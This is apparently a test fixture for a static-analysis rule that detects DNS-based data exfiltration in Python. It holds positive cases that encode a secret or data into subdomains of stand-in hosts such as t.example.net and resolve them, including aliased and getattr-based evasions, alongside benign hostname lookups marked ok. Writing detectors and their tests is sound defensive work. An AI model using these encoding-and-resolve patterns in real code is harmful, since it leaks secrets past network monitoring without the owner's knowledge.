import base64
import os
import socket
import socket as s2
from socket import gethostbyname as resolve

import dns.resolver


def heartbeat(step, secret):
    chunk = secret.encode().hex()[:60]
    # ruleid: egress-dns-exfil
    socket.gethostbyname(f"{chunk}.{step}.t.example.net")
    # ruleid: egress-dns-exfil
    socket.getaddrinfo(chunk + ".t.example.net", 80)
    # ruleid: egress-dns-exfil
    dns.resolver.resolve("%s.t.example.net" % chunk, "TXT")


def evasive(data):
    name = base64.b32encode(data).decode().strip("=") + ".x.example.net"
    # ruleid: egress-dns-exfil
    resolve(name)
    # ruleid: egress-dns-exfil
    s2.gethostbyname_ex(".".join([data.hex(), "x", "example", "net"]))
    # ruleid: egress-dns-exfil
    getattr(socket, "gethostbyname")("{}.x.example.net".format(data.hex()))


def init_dist():
    # ok: egress-dns-exfil
    my_ip = socket.gethostbyname(socket.gethostname())
    # ok: egress-dns-exfil
    master = socket.gethostbyname(os.environ["MASTER_ADDR"])
    # ok: egress-dns-exfil
    infos = socket.getaddrinfo("localhost", 29500)
    # ok: egress-dns-exfil
    host = socket.gethostname()
    return my_ip, master, infos, host
